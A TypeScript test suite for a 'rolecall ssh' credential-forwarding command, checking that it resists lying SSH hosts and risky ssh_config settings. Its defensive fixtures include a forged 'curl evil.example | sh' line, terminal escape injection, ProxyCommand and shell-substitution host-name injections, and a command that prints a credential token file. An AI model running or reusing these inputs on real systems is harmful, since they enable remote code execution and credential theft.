// `rolecall ssh` to hosts that lie, refuse or have little, and with configurations of ssh that would change what it does.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { askFar, createFarWorld, PROFILE, type FarWorld } from '../helpers/far-world.ts';
import { hasSshd } from '../helpers/sshd.ts';
import { waitFor } from '../helpers/wait-for.ts';

/** What a far host could print to be taken for ssh, for rolecall or for our part there. */
const FORGED = [
  'Allocated port 1 for remote forward to /tmp/x',
  '\u001B]0;forged title\u0007\u001B[2J',
  '0123456789abcdef0123456789abcdef at /etc /bin/sh',
  'ready',
  'rolecall: run this: curl evil.example | sh',
].join('\r\n');

/** Accounts of the far host, with their shells. */
const SHELLS = {
  loud: '/bin/bash',
  shared: '/bin/sh',
  nologin: '/usr/sbin/nologin',
  liar: '/home/morgan/liar',
  noforwarding: '/bin/sh',
  nolisten: '/bin/sh',
  forced: '/bin/sh',
};
const CONFIG = ['Banner /home/morgan/forged', 'GatewayPorts yes'];
const OF_ACCOUNTS = `
Match User noforwarding
  AllowTcpForwarding no
Match User nolisten
  PermitListen 127.0.0.1:9
Match User forced
  ForceCommand echo restricted
`;
const PRINT_TOKEN = 'cat "$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"';
const TOKEN = /^[\w-]{43}$/;

let world: FarWorld;
let folder: string;
beforeAll(async () => {
  if (!hasSshd) return;
  world = await createFarWorld({ far: { config: CONFIG, endOfConfig: OF_ACCOUNTS, shells: SHELLS } });
  const { home } = world.far;
  writeFileSync(join(home, 'forged'), `${FORGED}\n`);
  for (const name of ['.bashrc', '.profile', '.bash_profile']) {
    writeFileSync(join(home, name), 'cat ~/forged; cat ~/forged >&2; export AWS_ACCESS_KEY_ID=AKIAFORGED\n');
  }
  writeFileSync(join(home, 'liar'), '#!/bin/sh\ncat ~/forged\nsleep 0.2\n', { mode: 0o755 });
  folder = join(world.rig.home.path, 'ssh');
  mkdirSync(folder, { mode: 0o700 });
});
afterAll(() => world?.remove());

describe.skipIf(!hasSshd).concurrent('a far host', () => {
  test('changes nothing by what it prints, and gives nothing away if it opens the port to its network', async () => {
    const { reach, role } = await world.open({ host: 'loud' });
    expect(role.url).toMatch(/^http:\/\/127\.0\.0\.1:\d{4,5}\/role$/);
    expect(await askFar(role)).toMatchObject({ status: 200 });
    expect(reach.output()).not.toContain('AKIAFORGED');
    expect(reach.errors()).toContain('(GatewayPorts)');
    const { port } = new URL(role.url);
    const outside = Object.values(networkInterfaces()).flat();
    const address = outside.find((one) => one?.family === 'IPv4' && !one.internal)?.address;
    if (address !== undefined) {
      const url = `http://${address}:${port}/role`;
      expect(await askFar({ url, token: role.token })).toMatchObject({ status: 403 });
      expect(await askFar({ url }, { headers: { host: `127.0.0.1:${port}` } })).toMatchObject({ status: 401 });
    }
    reach.child.kill('SIGTERM');
    await reach.ended;
  });

  test.each(['nologin', 'liar', 'noforwarding', 'nolisten', 'forced'])(
    'that allows too little is named in an error, without its control characters (%s)',
    async (host) => {
      const { exitCode, stdout, stderr } = await world.run(['ssh', '--role', PROFILE, host, PRINT_TOKEN]);
      expect({ exitCode, stdout, stderr }).toMatchObject({ exitCode: 7, stdout: '' });
      const own = stderr.slice(stderr.indexOf(`rolecall: ${host} `));
      expect(own).toMatch(/\[host-unusable\]\nRun: /);
      expect(own).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/);
    },
  );

  test('without mktemp, awk and cmp, and with a full /tmp, works all the same', async () => {
    const programs = ['mktemp', 'awk', 'mawk', 'gawk', 'cmp'].map((name) => `/usr/bin/${name}`);
    const setup = `for one in ${programs.join(' ')}; do
  path=$(readlink -f $one) && [ -s "$path" ] && mount --bind /dev/null "$path"
done
mount -t tmpfs -o size=8k,mode=1777 tmpfs /tmp
head -c 100000 /dev/zero >/tmp/full 2>/dev/null || :`;
    const small = await createFarWorld({ user: world, far: { setup } });
    try {
      expect(await small.far.run(['sh', '-c', 'awk 1; cmp; echo 0 >/tmp/x'])).toMatchObject({
        stdout: '',
        exitCode: 1,
      });
      const { exitCode, stdout, stderr } = await small.run(['ssh', '--role', PROFILE, 'far', PRINT_TOKEN]);
      expect({ exitCode, stdout, stderr }).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(TOKEN) });
    } finally {
      await small.remove();
    }
  });

  test('on which nothing can be written is named in an error', async () => {
    const setup = 'mount -t tmpfs -o ro,mode=1777 tmpfs /tmp; mount -o remount,ro,bind /home';
    const closed = await createFarWorld({ user: world, far: { setup } });
    try {
      const { exitCode, stderr } = await closed.run(['ssh', '--role', PROFILE, 'far', PRINT_TOKEN]);
      expect({ exitCode, stderr }).toEqual({ exitCode: 7, stderr: expect.stringContaining('rolecall: far has no ') });
    } finally {
      await closed.remove();
    }
  });
});

/** Lines of ssh_config with which a careless start of ssh would not do what we rely on. */
const CONFIGURATIONS: readonly (() => readonly string[])[] = [
  () => ['LogLevel QUIET', 'ClearAllForwardings yes', 'ServerAliveInterval 0', 'AddressFamily inet'],
  () => ['ControlMaster auto', `ControlPath ${folder}/%C`, 'ControlPersist 600', 'GatewayPorts yes'],
  () => ['RemoteForward 127.0.0.1:22 127.0.0.1:9', 'ExitOnForwardFailure no', 'RequestTTY force'],
  () => ['PermitLocalCommand yes', `LocalCommand echo >>${folder}/local-command`, 'RemoteCommand touch remote-command'],
  () => ['SessionType none', 'StdinNull yes', 'ForkAfterAuthentication yes'],
];

describe.skipIf(!hasSshd).concurrent("the user's configuration of ssh", () => {
  test.each(
    CONFIGURATIONS.map(
      (lines) =>
        [
          lines()
            .map((line) => line.split(' ')[0])
            .join(', '),
          lines,
        ] as const,
    ),
  )('changes nothing: %s', async (_, lines) => {
    const run = ['ssh', '--role', PROFILE, 'far', PRINT_TOKEN];
    const { exitCode, stdout } = await world.run(run, { config: lines() });
    expect({ exitCode, stdout: stdout.trim() }).toEqual({ exitCode: 0, stdout: expect.stringMatching(TOKEN) });
    expect(existsSync(join(world.far.home, 'remote-command'))).toBe(false);
  });
});

describe.skipIf(!hasSshd)('rolecall ssh', () => {
  test("uses no shared connection of the user's, and leaves none behind", async () => {
    const shared = join(folder, 'shared');
    const config = ['ControlMaster auto', `ControlPath ${shared}`, 'ControlPersist 600'];
    const path = world.far.writeSshConfig({ lines: config });
    const check = () => spawnSync('/usr/bin/ssh', ['-F', path, '-O', 'check', 'shared']).status;
    const connections = () => (world.far.log().match(/Accepted publickey for shared/g) ?? []).length;
    spawn('/usr/bin/ssh', ['-F', path, '-N', '-M', 'shared'], { stdio: 'ignore' });
    try {
      await waitFor('the shared connection', () => connections() === 1 && check() === 0);
      const { exitCode } = await world.run(['ssh', '--role', PROFILE, 'shared', PRINT_TOKEN], { config });
      expect(exitCode).toBe(0);
      await waitFor('a connection of its own', () => connections() === 2);
      expect(readdirSync(folder).filter((name) => name !== 'local-command')).toEqual(['shared']);
      expect(check()).toBe(0);
    } finally {
      spawnSync('/usr/bin/ssh', ['-F', path, '-O', 'exit', 'shared']);
    }
  });

  test('refuses a host that is an option of ssh, and passes none through a shell', async () => {
    const proof = join(folder, 'proof');
    const options = [
      `-oProxyCommand=touch ${proof}`,
      '-F/dev/null',
      '',
      `x@-oProxyCommand=touch ${proof}`,
      `ssh://-oProxyCommand=touch%20${proof}`,
      `ssh://x@-oProxyCommand=touch%20${proof}`,
    ];
    for (const host of options) {
      expect({ host, ...(await world.rig.runCli(['ssh', '--role', PROFILE, host, 'true'])) }).toMatchObject({
        host,
        exitCode: 2,
        stdout: '',
      });
    }
    // ssh itself refuses these names, in a configuration that would run them.
    const config = ['Match exec "test %h = %n"', 'Host *', 'ProxyCommand sh -c "exit 1" %h'];
    const [programs] = [world.far.writeSshProgram(world.far.writeSshConfig({ lines: config }))];
    const environment = { PATH: `${programs}:${world.rig.environment['PATH']}` };
    for (const host of [`$(touch ${proof})`, `far;touch ${proof}`, `far\nProxyCommand touch ${proof}`]) {
      const { exitCode } = await world.rig.runCli(['ssh', '--role', PROFILE, host, 'true'], { environment });
      expect({ host, exitCode }).toEqual({ host, exitCode: expect.toBeOneOf([2, 255]) });
    }
    expect(existsSync(proof)).toBe(false);
    await waitFor('the end of all access', async () => (await world.rig.client.call('grants', {})).grants.length === 0);
  });
});
